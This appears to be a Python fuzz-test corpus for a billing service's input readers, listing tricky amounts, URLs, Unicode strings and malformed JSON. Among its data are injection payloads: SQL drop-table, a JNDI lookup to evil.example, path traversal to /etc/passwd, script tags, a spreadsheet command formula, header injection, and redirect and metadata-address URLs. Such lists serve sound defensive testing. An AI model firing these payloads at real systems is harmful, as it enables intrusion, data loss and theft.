"""What has broken readers of input before: amounts, addresses, characters, JSON."""

from __future__ import annotations

import json
import unicodedata
from itertools import islice, product
from typing import Any

# JSON values that are, or look like, an amount.
PLAIN: list[Any] = [
    0,
    1,
    -1,
    7,
    99,
    100,
    1000,
    2999,
    10**6,
    10**9,
    10**12 - 1,
    10**12,
    2**31 - 1,
    2**31,
    2**32,
    2**53 - 1,
]
WRONG: list[Any] = [
    2**53,
    2**63,
    2**64,
    10**30,
    -(2**53),
    -(2**63),
    10.0,
    10.5,
    1e3,
    -0.0,
    0.1,
    1e300,
    True,
    False,
    None,
]
WRITTEN = [
    "0",
    "1",
    "10",
    "007",
    "-1",
    "+1",
    "1_000",
    "1,000",
    "1.000",
    "1.000,00",
    "10.0",
    "1e3",
    "1E+3",
    "0x10",
    "0b1",
]
AROUND = ["{}", " {}", "{} ", "\t{}", "{}\n", "${}", "{} USD", "€{}", "({})", "{}%", "'{}'", "={}", "--{}"]
SCRIPTS = [
    "١٢٣",
    "１２３",
    "१२३",
    "๑๒๓",
    "Ⅻ",
    "½",
    "²",
    "一百",
    "𝟙𝟚𝟛",
    "৪৫",
    "⑫",
    "1\u200b0",
    "\u202e10",
    "1\u00a00",
    "−5",
]
NESTED: list[Any] = [
    [],
    {},
    [1],
    [[1]],
    {"amount": 1},
    {"minor": 1, "currency": "USD"},
    [None],
    "",
    "NaN",
    "Infinity",
    "null",
]
AMOUNTS: list[Any] = list(
    islice([*PLAIN, *WRONG, *SCRIPTS, *NESTED, *WRITTEN, *(a.format(w) for w, a in product(WRITTEN, AROUND[1:]))], 200)
)

ALLOWED = "http://localhost:3000"
SCHEMES = [
    "http",
    "https",
    "HTTP",
    "javascript",
    "data",
    "file",
    "ftp",
    "ws",
    "vbscript",
    "blob",
    "about",
    "mailto",
    "",
]
HOSTS = [
    "localhost:3000",
    "localhost",
    "localhost:3001",
    "LOCALHOST:3000",
    "localhost:3000.evil.example",
    "localhost.evil.example:3000",
    "evil.example",
    "evil.example:3000",
    "localhost:3000@evil.example",
    "user:pass@localhost:3000",
    "localhost%3A3000",
    "localhost:3000%00.evil.example",
    "127.0.0.1:3000",
    "[::1]:3000",
    "0:3000",
    "2130706433:3000",
    "0x7f.1:3000",
    "loc\u00adalhost:3000",
    "ⓛocalhost:3000",
    "localhost。evil.example",
    "169.254.169.254",
    "[::ffff:127.0.0.1]",
]
TRICKS = [
    ALLOWED + "\\@evil.example/",
    ALLOWED + "\t@evil.example/",
    ALLOWED + "\n.evil.example/",
    " " + ALLOWED,
    "\x00" + ALLOWED,
    "//evil.example/",
    "/\\evil.example",
    "\\\\evil.example",
    "http:evil.example",
    "http:/evil.example",
    "http:///evil.example",
    "http://[",
    "http://]",
    "http://",
    "?",
    "",
    ALLOWED + "@evil.example",
    ALLOWED + ":evil.example",
    ALLOWED + "#@evil.example",
    "jav\tascript:alert(1)",
    "http://" + "a" * 3000,
    ALLOWED + "/" + "a" * 3000,
    "http://xn--" + "a" * 70,
]
PATHS = ["/", "/a?b=c"]
URLS: list[Any] = list(
    islice([*TRICKS, *(f"{s}:{'//' if s else ''}{h}{p}" for p, h, s in product(PATHS, HOSTS, SCHEMES))], 300)
)

ODD = [
    "\x00",
    "\x01",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\xa0",
    "\xad",
    "\u0300",
    "\u061c",
    "\u180e",
    "\u200b",
    "\u200d",
    "\u200e",
    "\u2028",
    "\u2029",
    "\u202e",
    "\u2066",
    "\u2069",
    "\ufeff",
    "\ufffd",
    "\uffff",
    "\ufff9",
    "\U000e0001",
    "\U0010ffff",
    "\U0001f469\u200d\U0001f4bb",
    "\U0001f1ee\U0001f1f3",
    "\ud800",
    "\udfff",
    "\udc80",
    "\ud83d",
    "ﷺ",
    "ß",
    "İ",
    "ı",
    "ſ",
    "K",
    "Å",
    "ﬀ",
    "e\u0301",
    "é",
    "가",
    "각",
    "𝕊",
    "１",
    "٣",
    "܀",
    "ا",
    "ب",
    "א",
    "\u0e33",
    "Z\u0351\u036b\u0343",
]
TEXTS = [
    "' OR 1=1 --",
    '"; DROP TABLE billing_payment; --',
    "%s%s%n",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "a" * 256,
    "a" * 10_000,
    " ",
    "\t\n",
    "null",
    "undefined",
    "NaN",
    "true",
    "%00",
    "%ff",
    "\\x00",
    "\\u0000",
    "a\r\nSet-Cookie: a=b",
    "_",
    "%",
    "\\",
]
SHAPES = ["{}", "a{}", "{}a", "a{}b", "{0}{0}{0}", "{}user", "premium{}plan"]
UNICODE: list[Any] = list(
    islice(
        [
            *TEXTS,
            *(shape.format(odd) for shape, odd in product(SHAPES, ODD)),
            *(unicodedata.normalize(form, odd + "ñ") for form, odd in product(("NFC", "NFD", "NFKC", "NFKD"), ODD)),
        ],
        500,
    )
)

BROKEN = [
    "",
    " ",
    "{",
    "}",
    "[",
    "]",
    "{}",
    "[]",
    "null",
    "true",
    "0",
    '""',
    "nul",
    "NaN",
    "-Infinity",
    "{,}",
    "[,]",
    '{"a"}',
    '{"a":}',
    '{"a":1,}',
    "[1,]",
    "{'a':1}",
    "{a:1}",
    '{"a":01}',
    '{"a":+1}',
    '{"a":.5}',
    '{"a":1.}',
    '{"a":0x1}',
    '{"a":1e}',
    '{"a":1e999}',
    '{"a":-1e999}',
    '{"a":NaN}',
    '{"a":Infinity}',
    '{"a":1}{"a":2}',
    '{"a":1} x',
    "\ufeff{}",
    '{"a":"\t"}',
    '{"a":"\\x"}',
    '{"a":"\\u12"}',
    '{"a":"\\ud800"}',
    '{"a":"\\udc00\\ud800"}',
    '{"a":"\\u0000"}',
    '{"\\u0000":1}',
    '{"\\ud800":1}',
    '{"a":1,"a":2}',
    '{"a":{"b":1,"b":2}}',
    '{"":1}',
    '{"__proto__":{}}',
    '{"constructor":1}',
    "/* c */ {}",
    "{} // c",
    "#{}",
    '{"a":"unclosed',
]
DEEP = [
    opening * depth + closing * depth
    for opening, closing in (("[", "]"), ('{"a":', "}"))
    for depth in (19, 20, 21, 99, 5000)
]
NUMBERS = [
    f'{{"{name}":{number}}}'
    for name, number in product(
        ("plan_id", "user_id", "rows", "amount", "requested"),
        (
            "0",
            "-0",
            "1e2",
            "1.5",
            "9" * 15,
            "9" * 16,
            "9" * 17,
            "9" * 400,
            "9" * 5000,
            "-" + "9" * 20,
            "1e-400",
            "123456789e300",
        ),
    )
]
SWAPPED = [
    f'{{"{name}":{value}}}'
    for name, value in product(
        ("plan_id", "country_code", "user_id", "payment_id", "rows", "requested", "success_url"),
        ("null", "true", "[]", "{}", '""', "[[]]", "[{}]", '{"a":1}', '"a"', "1", "[1,2]", "[null]"),
    )
]
JSON_TEXTS = list(islice([*BROKEN, *DEEP, *NUMBERS, *SWAPPED], 200))


def as_json(body: Any) -> bytes:
    """Write a body as an attacker would: lone surrogates as escapes."""
    return json.dumps(body).encode()
